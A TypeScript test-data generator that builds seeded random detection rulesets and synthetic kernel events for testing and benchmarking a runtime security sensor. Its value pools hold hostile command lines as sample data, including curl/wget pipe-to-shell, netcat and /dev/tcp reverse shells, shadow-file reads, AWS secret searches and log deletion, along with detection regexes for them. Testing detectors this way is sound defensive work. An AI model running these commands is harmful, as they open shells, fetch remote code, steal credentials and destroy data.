// Generated rulesets and events for the differential test and the rules
// benchmark. Everything is driven by a seeded PRNG, so a failure can be
// replayed. Events are biased towards what the rules look for: the literal
// values of their conditions (strings, numbers, list items, prefixes with a
// suffix, paths below path prefixes, addresses inside networks, strings a glob
// matches) are harvested and recombined per evt.type, with noise and missing
// fields, so a good share of events fire rules and the rest come close.
import { stringify } from 'yaml';
import type { Fields, FieldValue } from '../../sensor/decode/fields';
import { FIELDS, type FieldType, fieldType } from '../../sensor/rules/catalog';
import { parseCidr, type Network } from '../../sensor/rules/cidr';
import { factsOf } from '../../sensor/rules/compile';
import { EVENT_NAMES, EVT_TYPES } from '../../sensor/rules/event-types';
import { OPERATORS } from '../../sensor/rules/operators';
import type { Condition, RuleSetSpec, RuleSpec } from '../../sensor/rules/types';

// ---------------------------------------------------------------------------
// PRNG

export class Rng {
  private s: number;
  constructor(seed: number) {
    this.s = seed >>> 0;
  }
  /** mulberry32: [0, 1). */
  next(): number {
    let t = (this.s = (this.s + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)];
  }
  some<T>(xs: readonly T[], min: number, max: number): T[] {
    const n = min + this.int(max - min + 1);
    const out: T[] = [];
    for (let i = 0; i < n; i++) out.push(this.pick(xs));
    return [...new Set(out)];
  }
}

// ---------------------------------------------------------------------------
// Value pools, by the kind of thing a field holds. They overlap the default
// ruleset's vocabulary so that noise sometimes hits real rules too.

const NAMES = ['sh', 'bash', 'dash', 'zsh', 'busybox', 'curl', 'wget', 'nc', 'ncat', 'socat', 'python3', 'perl', 'node', 'java',
  'sshd', 'cron', 'kubectl', 'xmrig', 'nginx', 'runc', 'containerd-shim', 'apt-get', 'nmap', 'tcpdump', 'cat', 'vi', 'ls',
  'systemd', 'dockerd', 'kubelet', 'npm', 'chmod', 'insmod', 'mount', 'nsenter'];
const PATHS = ['/etc/passwd', '/etc/shadow', '/etc/sudoers', '/etc/ssh/sshd_config', '/etc/resolv.conf', '/etc/hosts', '/etc/ld.so.preload',
  '/tmp/x.sh', '/tmp/a/b', '/dev/shm/m', '/usr/bin/curl', '/bin/sh', '/bin/bash', '/usr/bin/python3', '/root/.ssh/authorized_keys',
  '/root/.bash_history', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/proc/1/root', '/home/u/.bashrc', '/', '/etcx/y',
  '/usr/local/bin/kubectl', '/var/log/auth.log', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/etc/cron.d/job',
  '/etc/systemd/system/x.service', '/dev/sda', '/dev/mem', '/usr/sbin/runc', '/memfd:x (deleted)', '/app/server.js'];
const CMDLINES = ['sh -c id', 'bash -i', 'curl http://x.example/s.sh | sh', 'wget -qO- http://x | bash', 'nc -e /bin/sh 10.0.0.9 4444',
  'xmrig --url stratum+tcp://pool.example:3333', 'python3 -c import pty;pty.spawn("/bin/sh")', 'cat /etc/shadow', 'ls -la',
  'find / -name id_rsa', 'grep -r AWS_SECRET_ACCESS_KEY /', 'kubectl get pods', 'nginx -g daemon off;', 'node /app/server.js',
  'bash -c echo > /dev/tcp/10.0.0.9/4444', 'rm -rf /var/log/*'];
const ADDRS = ['10.0.0.1', '10.96.0.1', '10.244.1.7', '169.254.169.254', '192.168.1.5', '172.17.0.2', '8.8.8.8', '1.1.1.1',
  '127.0.0.1', 'fd00::1', '::1', '::ffff:10.1.2.3', '2001:db8::5', 'fe80::1', '203.0.113.9'];
const DNS_NAMES = ['pool.minexmr.com', 'example.com', 'xmr.pool.example.net', 'kubernetes.default.svc.cluster.local',
  'evil.example.net', 'api.github.com', 'metadata.google.internal'];
const IMAGES = ['docker.io/library/nginx:1.25', 'registry.example.com/tools/x:1', 'ghcr.io/a/b:latest', 'docker.io/library/alpine:3'];
const RESULTS = ['SUCCESS', 'ENOENT', 'EACCES', 'EPERM'];
const WORDS = ['', 'a', 'x', 'abc', 'SUCCESS', 'O_WRONLY|O_CREAT', 'O_RDONLY', 'tcp', 'udp', 'ipv4', 'ipv6', 'query', 'response',
  'PTRACE_ATTACH', 'BPF_PROG_LOAD', 'CLONE_NEWNS', 'MS_BIND', 'default', 'kube-system', 'web', 'host', 'NOERROR', 'NXDOMAIN', 'A', 'AAAA'];
const NUMBERS = [0, 1, 2, 22, 53, 80, 443, 1000, 3333, 4444, 6443, 8080, 34816, 65534, 65535, -1];
const PREFIXES = ['/tmp/', '/etc', '/dev/shm/', '/bin/', '/usr/', '/proc/', 'stratum', 'sh', 'x', '/root/'];
const SUFFIXES = ['.sh', '.service', 'sh', '_history', '.log', '.sock', 'config', '.conf', '(deleted)'];
const SUBSTRINGS = ['/tmp', 'sh', '-c', 'stratum+tcp', '| sh', '/dev/tcp', 'id_rsa', 'AWS_', '--url', 'pty', 'x'];
const PATH_PREFIXES = ['/etc', '/tmp/', '/', '/root/.ssh', '/usr/bin', '/proc', '/var/run', '/dev', '/home'];
const GLOBS = ['/etc/*', '/tmp/**', '**/*.sh', '/usr/bin/?url', '/dev/sh[a-m]/*', '*sh', '/etc/cron.[dh]*/**', '/proc/[0-9]*/root',
  '/var/log/*.log', '[!/]*'];
const REGEXES: unknown[] = ['^/tmp/', 'curl.*\\|\\s*(ba)?sh', { pattern: 'XMRIG', flags: 'i' }, 'stratum\\+tcp://', '^(sh|bash)$',
  '\\d{2,}', { pattern: '^/ETC/(SHADOW|PASSWD)$', flags: 'i' }, '/dev/tcp/[0-9.]+/\\d+', 'a{17,20}'];
const CIDRS: unknown[] = ['10.0.0.0/8', '169.254.169.254/32', 'fd00::/8', '::ffff:10.0.0.0/104', '172.16.0.0/12',
  ['192.168.0.0/16', '8.8.8.0/24'], '0.0.0.0/0', '::/0', '127.0.0.0/8'];

const PATH_FIELD = /^(fd\.name|fd\.nameraw|fd\.directory|proc\.exepath|proc\.exepath_resolved|proc\.cwd|proc\.pexepath|proc\.aexepath\[\d\]|proc\.exe|evt\.arg\.(target|target_raw|source|oldpath|newpath|oldpath_raw|newpath_raw|linkpath|linkpath_raw))$/;
const ADDR_FIELD = /^(fd\.[slr]ip|fd\.dip|dns\.nameserver)$/;
const CMD_FIELD = /cmdline$/;

function stringPool(field: string): readonly string[] {
  if (PATH_FIELD.test(field)) return PATHS;
  if (ADDR_FIELD.test(field)) return ADDRS;
  if (CMD_FIELD.test(field)) return CMDLINES;
  if (field === 'dns.name') return DNS_NAMES;
  if (field === 'container.image') return IMAGES;
  if (field === 'evt.res') return RESULTS;
  if (/name|\.exe_name|argv0|filename|aname/.test(field)) return NAMES;
  return WORDS;
}

/** A value of the field's declared type, from the pools. */
export function noise(rng: Rng, field: string, t: FieldType | undefined = fieldType(field)): FieldValue {
  switch (t) {
    case 'number': return rng.pick(NUMBERS);
    case 'boolean': return rng.chance(0.5);
    case 'strings': return field === 'proc.args' ? rng.pick(CMDLINES).split(' ') : rng.some(NAMES, 0, 4);
    case 'map': return rng.chance(0.5) ? { app: rng.pick(['web', 'db']), tier: 'fe' } : {};
    case 'any': return rng.chance(0.5) ? rng.pick(WORDS) : rng.pick(NUMBERS);
    default: return rng.pick(stringPool(field));
  }
}

// ---------------------------------------------------------------------------
// Generated rulesets

const RULE_FIELDS = Object.keys(FIELDS).filter((f) => f !== 'evt.type' && FIELDS[f] !== 'any' && FIELDS[f] !== 'map');
RULE_FIELDS.push('k8s.pod.label[app]');
const BY_TYPE = new Map<FieldType, string[]>();
for (const f of RULE_FIELDS) {
  const t = fieldType(f)!;
  if (!BY_TYPE.has(t)) BY_TYPE.set(t, []);
  BY_TYPE.get(t)!.push(f);
}

interface GenState {
  rng: Rng;
  /** Lists by element kind. */
  stringLists: string[];
  numberLists: string[];
  macros: string[];
}

function pickField(s: GenState, types: readonly FieldType[]): string {
  const usable = types.filter((t) => BY_TYPE.has(t));
  return s.rng.pick(BY_TYPE.get(s.rng.pick(usable))!);
}

function factCondition(s: GenState): Record<string, unknown> {
  const { rng } = s;
  const opName = rng.pick([...OPERATORS.keys()]);
  const op = OPERATORS.get(opName)!;
  const fact = pickField(s, op.accepts);
  const t = fieldType(fact)!;
  const scalar = (): unknown => noise(rng, fact, t === 'strings' ? 'string' : t);
  let value: unknown;
  switch (opName) {
    case 'equal':
    case 'notEqual':
      if (rng.chance(0.15)) {
        // Another field of the same type (e.g. proc.name vs proc.pname).
        value = { fact: rng.pick(BY_TYPE.get(t) ?? [fact]) };
      } else value = scalar();
      break;
    case 'in':
    case 'notIn': {
      const lists = t === 'number' ? s.numberLists : t === 'string' ? s.stringLists : [];
      if (lists.length && rng.chance(0.4)) value = rng.chance(0.5) ? rng.pick(lists) : { list: rng.pick(lists) };
      else value = [...new Set(Array.from({ length: 1 + rng.int(4) }, scalar))];
      if (t === 'boolean') value = [rng.chance(0.5)];
      break;
    }
    case 'lessThan':
    case 'lessThanInclusive':
    case 'greaterThan':
    case 'greaterThanInclusive':
      value = rng.chance(0.1) ? { fact: rng.pick(BY_TYPE.get('number')!) } : rng.pick(NUMBERS);
      break;
    case 'contains':
    case 'doesNotContain':
      value = t === 'strings' ? rng.pick(NAMES) : rng.chance(0.7) ? rng.pick(SUBSTRINGS) : rng.some(SUBSTRINGS, 1, 3);
      break;
    case 'startsWith':
      value = rng.chance(0.7) ? rng.pick(PREFIXES) : rng.some(PREFIXES, 1, 3);
      break;
    case 'endsWith':
      value = rng.chance(0.7) ? rng.pick(SUFFIXES) : rng.some(SUFFIXES, 1, 3);
      break;
    case 'pathPrefix':
      value = rng.chance(0.7) ? rng.pick(PATH_PREFIXES) : rng.some(PATH_PREFIXES, 1, 3);
      break;
    case 'glob':
      value = rng.chance(0.8) ? rng.pick(GLOBS) : rng.some(GLOBS, 1, 2);
      break;
    case 'regex':
      value = rng.pick(REGEXES);
      break;
    case 'cidr':
      value = rng.pick(CIDRS);
      break;
    case 'exists':
      value = rng.chance(0.7);
      break;
    case 'intersects':
      value = s.stringLists.length && rng.chance(0.3) ? rng.pick(s.stringLists) : rng.some(NAMES, 1, 4);
      break;
  }
  return { fact, operator: opName, value };
}

function genCondition(s: GenState, depth: number): Record<string, unknown> {
  const { rng } = s;
  const r = rng.next();
  if (depth >= 3 || r < 0.6) return factCondition(s);
  if (r < 0.7 && s.macros.length) return { condition: rng.pick(s.macros) };
  if (r < 0.78) return { not: genCondition(s, depth + 1) };
  const kids = Array.from({ length: 1 + rng.int(3) }, () => genCondition(s, depth + 1));
  return rng.chance(0.55) ? { all: kids } : { any: kids };
}

function exceptionValue(rng: Rng, f: string, comp: string): unknown {
  switch (comp) {
    case 'in': return rng.some(stringPool(f), 1, 3);
    case 'startsWith': return rng.pick(PREFIXES);
    case 'endsWith': return rng.pick(SUFFIXES);
    case 'pathPrefix': return rng.pick(PATH_PREFIXES);
    case 'contains': return rng.pick(SUBSTRINGS);
    case 'glob': return rng.pick(GLOBS);
    default: return rng.pick(stringPool(f));
  }
}

function genException(s: GenState, name: string): Record<string, unknown> {
  const { rng } = s;
  const fields = rng.some(BY_TYPE.get('string')!, 1, 2);
  const comps = fields.map(() => rng.pick(['equal', 'in', 'startsWith', 'pathPrefix', 'contains', 'glob', 'endsWith']));
  const valueFor = (f: string, comp: string): unknown => exceptionValue(rng, f, comp);
  const tuples = Array.from({ length: rng.int(4) }, () => fields.map((f, k) => valueFor(f, comps[k])));
  const withComps = rng.chance(0.7);
  return {
    name,
    fields,
    ...(withComps ? { comps } : {}),
    // Without comps, equal (or in, for an array).
    values: withComps ? tuples : tuples.map((t) => t.map((v, k) => (comps[k] === 'in' ? v : rng.pick(stringPool(fields[k]))))),
  };
}

/**
 * Rule files (base, then tuning) with `n` rules built from every operator,
 * nested all/any/not, macros, lists (some naming others), exceptions, fact
 * references, and a tuning file that overrides some of it.
 */
export function generateRuleFiles(seed: number, n: number): { file: string; text: string }[] {
  const rng = new Rng(seed);
  const s: GenState = { rng, stringLists: [], numberLists: [], macros: [] };
  const items: Record<string, unknown>[] = [];
  for (let i = 0; i < 6; i++) {
    const name = `names_${i}`;
    const extra = s.stringLists.length && rng.chance(0.5) ? [rng.pick(s.stringLists)] : [];
    items.push({ list: name, items: [...rng.some(NAMES, 1, 5), ...extra] });
    s.stringLists.push(name);
  }
  for (let i = 0; i < 4; i++) {
    items.push({ list: `paths_${i}`, items: rng.some(PATHS, 1, 5) });
    s.stringLists.push(`paths_${i}`);
  }
  for (let i = 0; i < 3; i++) {
    items.push({ list: `ports_${i}`, items: rng.some(NUMBERS, 1, 5) });
    s.numberLists.push(`ports_${i}`);
  }
  const macroCount = Math.max(5, Math.round(n / 10));
  for (let i = 0; i < macroCount; i++) {
    items.push({ macro: `m_${i}`, condition: genCondition(s, 1) });
    s.macros.push(`m_${i}`);
  }
  const rules: Record<string, unknown>[] = [];
  for (let i = 0; i < n; i++) {
    const events = rng.some(EVENT_NAMES, 1, 3);
    const r: Record<string, unknown> = {
      rule: `gen ${i}`,
      desc: `Generated rule ${i}.`,
      events,
      // Mostly `all` of two or more: selective enough that events also miss.
      condition: rng.chance(0.75)
        ? { all: Array.from({ length: 2 + rng.int(3) }, () => genCondition(s, 1)) }
        : { any: Array.from({ length: 1 + rng.int(3) }, () => genCondition(s, 1)) },
      output: `gen ${i} (%proc.name) | fd.name=%fd.name proc.cmdline=%proc.cmdline`,
      priority: rng.pick(['WARNING', 'NOTICE', 'CRITICAL', 'info']),
      tags: ['T1059', 'execution'],
    };
    if (rng.chance(0.25)) r.exceptions = Array.from({ length: 1 + rng.int(2) }, (_, k) => genException(s, `exc_${k}`));
    if (rng.chance(0.03)) r.enabled = false;
    rules.push(r);
    items.push(r);
  }
  // Tuning: append to lists, replace a macro, append exception values, switch rules off.
  const tuning: Record<string, unknown>[] = [];
  tuning.push({ list: s.stringLists[0], items: rng.some(NAMES, 1, 3), override: { items: 'append' } });
  tuning.push({ list: s.numberLists[0], items: [rng.pick(NUMBERS)], override: { items: 'replace' } });
  tuning.push({ macro: s.macros[s.macros.length - 1], condition: factCondition(s), override: { condition: 'replace' } });
  for (const r of rules) {
    const exc = r.exceptions as Record<string, unknown>[] | undefined;
    if (exc && rng.chance(0.3)) {
      const e = exc[0];
      const fields = e.fields as string[];
      const comps = e.comps as string[] | undefined;
      const values = [fields.map((f, k) => (comps ? exceptionValue(rng, f, comps[k]) : rng.pick(stringPool(f))))];
      tuning.push({ rule: r.rule, exceptions: [{ name: e.name, values }], override: { exceptions: 'append' } });
    } else if (rng.chance(0.02)) {
      tuning.push({ rule: r.rule, enabled: false });
    }
  }
  return [
    { file: `generated-${seed}.yaml`, text: stringify(items) },
    { file: `generated-${seed}-tuning.yaml`, text: stringify(tuning) },
  ];
}

// ---------------------------------------------------------------------------
// Harvesting candidate values from a loaded ruleset

function sampleGlob(g: string, rng: Rng): string {
  let out = '';
  for (let i = 0; i < g.length; i++) {
    const c = g[i];
    if (c === '*') {
      if (g[i + 1] === '*') {
        out += rng.pick(['', 'a/b', 'x', 'c/d/e']);
        i++;
      } else out += rng.pick(['', 'x', 'abc']);
    } else if (c === '?') {
      out += rng.pick(['a', 'c', '1']);
    } else if (c === '[') {
      const end = g.indexOf(']', i + 2);
      if (end < 0) {
        out += c;
        continue;
      }
      const body = g.slice(i + 1, end);
      out += body.startsWith('!') || body.startsWith('^') ? 'Z' : body[0];
      i = end;
    } else if (c === '\\' && i + 1 < g.length) {
      out += g[++i];
    } else out += c;
  }
  return out;
}

/** A string that may match a regex: metacharacters dropped, classes and
 *  repetitions given one plausible instance. Best effort. */
function sampleRegex(p: string, rng: Rng): string {
  let s = p.replace(/^\^|\$$/g, '');
  s = s.replace(/\\s[+*]?/g, ' ').replace(/\\d(\{[^}]*\}|[+*])?/g, '12').replace(/\\w[+*]?/g, 'w').replace(/\.[*+]/g, () => rng.pick(['', ' x ', '/']));
  s = s.replace(/\[([^\]])[^\]]*\][*+?]?(\{[^}]*\})?/g, '$1').replace(/\((?:\?:)?([^|()]*)\|[^()]*\)\??/g, '$1').replace(/[()?]/g, '');
  s = s.replace(/([a-z])\{(\d+)(,\d*)?\}/gi, (_, ch: string, n: string) => ch.repeat(Number(n)));
  return s.replace(/\\(.)/g, '$1');
}

/** An address inside the network (host bits random), sometimes v4-mapped. */
function ipInside(net: string, rng: Rng): string {
  let n: Network;
  try {
    n = parseCidr(net);
  } catch {
    return net;
  }
  const bytes = Uint8Array.from(n.bytes);
  for (let i = 0; i < bytes.length; i++) {
    const fixed = Math.max(0, Math.min(8, n.bits - i * 8));
    const keep = fixed === 0 ? 0 : (0xff << (8 - fixed)) & 0xff;
    bytes[i] = (bytes[i] & keep) | (rng.int(256) & ~keep & 0xff);
  }
  if (!n.v6) {
    const v4 = [...bytes].join('.');
    return rng.chance(0.2) ? `::ffff:${v4}` : v4;
  }
  const groups: string[] = [];
  for (let i = 0; i < 16; i += 2) groups.push(((bytes[i] << 8) | bytes[i + 1]).toString(16));
  return groups.join(':');
}

type Candidates = Map<string, FieldValue[]>;

function add(c: Candidates, fact: string, v: FieldValue): void {
  let xs = c.get(fact);
  if (!xs) c.set(fact, (xs = []));
  if (xs.length < 400) xs.push(v);
}

function harvestFact(cond: { fact: string; operator: string; value: unknown }, c: Candidates, refs: [string, string][], rng: Rng): void {
  const { fact, operator, value } = cond;
  const t = fieldType(fact);
  if (value !== null && typeof value === 'object' && !Array.isArray(value) && typeof (value as { fact?: unknown }).fact === 'string') {
    refs.push([fact, (value as { fact: string }).fact]);
    return;
  }
  const values: unknown[] = Array.isArray(value) ? value : [value];
  for (const v of values) {
    switch (operator) {
      case 'equal': case 'notEqual': case 'in': case 'notIn':
        if (v === null || typeof v !== 'object') add(c, fact, v as FieldValue);
        break;
      case 'lessThan': case 'lessThanInclusive': case 'greaterThan': case 'greaterThanInclusive':
        if (typeof v === 'number') for (const d of [-1, 0, 1]) add(c, fact, v + d);
        break;
      case 'contains': case 'doesNotContain':
        if (t === 'strings') add(c, fact, [rng.pick(NAMES), v as string]);
        else if (typeof v === 'string') add(c, fact, `${rng.pick(NAMES)} ${v}${rng.pick(['', ' -x', '/y'])}`);
        break;
      // Each with a near miss: the value elsewhere in the string.
      case 'startsWith':
        add(c, fact, `${v as string}${rng.pick(['', 'x', '/a/b', '.sh'])}`);
        add(c, fact, `${rng.pick(['x', '/a'])}${v as string}`);
        break;
      case 'endsWith':
        add(c, fact, `${rng.pick(['', '/tmp/', 'x', '/usr/bin/'])}${v as string}`);
        add(c, fact, `${v as string}${rng.pick(['x', '.bak'])}`);
        break;
      case 'pathPrefix': {
        const p = v as string;
        add(c, fact, p);
        add(c, fact, `${p.replace(/\/$/, '')}/${rng.pick(NAMES)}`);
        add(c, fact, `${p.replace(/\/$/, '')}x`);
        break;
      }
      case 'glob':
        add(c, fact, sampleGlob(v as string, rng));
        break;
      case 'regex': {
        const pat = typeof v === 'string' ? v : (v as { pattern: string | string[] }).pattern;
        for (const p of Array.isArray(pat) ? pat : [pat]) add(c, fact, sampleRegex(p, rng));
        break;
      }
      case 'cidr':
        for (let k = 0; k < 3; k++) add(c, fact, ipInside(v as string, rng));
        break;
      case 'intersects':
        add(c, fact, [v as string, rng.pick(NAMES)]);
        break;
    }
  }
}

function walk(c: Condition, visit: (f: { fact: string; operator: string; value: unknown }) => void): void {
  if ('all' in c) c.all.forEach((x) => walk(x, visit));
  else if ('any' in c) c.any.forEach((x) => walk(x, visit));
  else if ('not' in c) walk(c.not, visit);
  else if ('fact' in c) visit(c);
}

function macrosOf(c: Condition, out: string[] = []): string[] {
  if ('all' in c) c.all.forEach((x) => macrosOf(x, out));
  else if ('any' in c) c.any.forEach((x) => macrosOf(x, out));
  else if ('not' in c) macrosOf(c.not, out);
  else if ('condition' in c) out.push(c.condition);
  return out;
}

// ---------------------------------------------------------------------------
// Events

const O_PATH = 0o10000000;

export class EventGenerator {
  private readonly candidates: Candidates = new Map();
  private readonly refs: [string, string][] = [];
  private readonly rules: { spec: RuleSpec; facts: string[]; own: Candidates }[];
  private readonly allFacts: string[];

  constructor(spec: RuleSetSpec, private readonly rng: Rng, private readonly seeds: readonly Fields[] = []) {
    for (const c of [...spec.macros.values(), ...spec.rules.map((r) => r.condition)]) {
      walk(c, (f) => harvestFact(f, this.candidates, this.refs, rng));
    }
    this.rules = spec.rules.filter((r) => r.enabled).map((r) => {
      // The rule's own candidates (its condition and the macros it uses).
      const own: Candidates = new Map();
      const seen = new Set<string>();
      const visit = (c: Condition): void => {
        walk(c, (f) => harvestFact(f, own, [], rng));
        macrosOf(c).forEach((m) => {
          if (!seen.has(m) && spec.macros.has(m)) {
            seen.add(m);
            visit(spec.macros.get(m)!);
          }
        });
      };
      visit(r.condition);
      return { spec: r, facts: [...factsOf(r.condition, spec.macros)], own };
    });
    this.allFacts = [...new Set(this.rules.flatMap((r) => r.facts))];
  }

  private value(fact: string, own?: Candidates): FieldValue {
    const mine = own?.get(fact);
    if (mine && this.rng.chance(0.6)) return this.rng.pick(mine);
    const xs = this.candidates.get(fact);
    if (xs && this.rng.chance(0.8)) return this.rng.pick(xs);
    return noise(this.rng, fact);
  }

  /** Sets a field, or (half the time, for a derived field) what it derives from. */
  private put(f: Fields, fact: string, v: FieldValue): void {
    const { rng } = this;
    const raw = rng.chance(0.5);
    const label = /^k8s\.pod\.label\[(.+)\]$/.exec(fact);
    if (raw && label) {
      f['k8s.pod.labels'] = { ...((f['k8s.pod.labels'] as Record<string, string> | null) ?? {}), [label[1]]: String(v) };
      return;
    }
    if (raw && typeof v === 'boolean' && fact === 'evt.is_open_read') {
      f['evt.flags_raw'] = v ? rng.pick([0, 2, 0o1102]) : rng.pick([1, 0o1101, O_PATH, O_PATH | 2]);
      return;
    }
    if (raw && typeof v === 'string' && v !== '') {
      switch (fact) {
        case 'fd.filename': f['fd.name'] = `${rng.pick(['/etc', '/tmp', ''])}/${v}`; return;
        case 'fd.directory': f['fd.name'] = `${v === '/' ? '' : v}/${rng.pick(NAMES)}`; return;
        case 'proc.exe': f['proc.args'] = [v, ...rng.some(NAMES, 0, 2)]; return;
        case 'proc.exe_name': f[rng.chance(0.5) ? 'proc.exepath' : 'proc.exepath_resolved'] = `/usr/bin/${v}`; return;
        case 'proc.argv0_name': f['proc.args'] = [`/bin/${v}`, '-c', 'x']; return;
      }
    }
    if (raw && Array.isArray(v) && fact === 'proc.anames') {
      v.slice(0, 5).forEach((x, i) => (f[`proc.aname[${i + 1}]`] = x));
      return;
    }
    f[fact] = v;
  }

  private targeted(): Fields {
    const { rng } = this;
    const r = rng.pick(this.rules);
    const f: Fields = { 'evt.type': rng.pick(r.spec.events) };
    for (const fact of r.facts) {
      if (fact === 'evt.type') {
        if (rng.chance(0.3)) f['evt.type'] = rng.pick(r.spec.events);
        continue;
      }
      const p = rng.next();
      if (p < 0.72) this.put(f, fact, this.value(fact, r.own));
      else if (p < 0.87) this.put(f, fact, noise(rng, fact));
      // else: missing
    }
    return f;
  }

  private mutatedSeed(): Fields {
    const { rng } = this;
    const f: Fields = { ...rng.pick(this.seeds) };
    for (const k of Object.keys(f)) {
      if (k === 'evt.type') continue;
      const p = rng.next();
      if (p < 0.1) delete f[k];
      else if (p < 0.2) this.put(f, k, this.value(k));
    }
    if (rng.chance(0.3)) {
      const k = rng.pick(this.allFacts);
      if (k !== 'evt.type') this.put(f, k, this.value(k));
    }
    return f;
  }

  private random(): Fields {
    const { rng } = this;
    const f: Fields = { 'evt.type': rng.pick(EVT_TYPES) };
    const n = 3 + rng.int(12);
    for (let i = 0; i < n; i++) {
      const k = rng.chance(0.6) && this.allFacts.length ? rng.pick(this.allFacts) : rng.pick(RULE_FIELDS);
      if (k !== 'evt.type') this.put(f, k, rng.chance(0.5) ? this.value(k) : noise(rng, k));
    }
    return f;
  }

  next(): Fields {
    const { rng } = this;
    const p = rng.next();
    const f = this.seeds.length && p < 0.35 ? this.mutatedSeed() : p < 0.85 ? this.targeted() : this.random();
    // Fields compared with each other: sometimes equal.
    for (const [a, b] of this.refs) if (f[a] !== undefined && rng.chance(0.3)) f[b] = f[a];
    // Now and then a value of the wrong type, or an explicit null.
    if (rng.chance(0.03)) {
      const k = rng.pick(this.allFacts);
      if (k !== 'evt.type') f[k] = rng.pick<FieldValue>([null, 42, 'str', true, ['a'], { a: 'b' }]);
    }
    return f;
  }
}
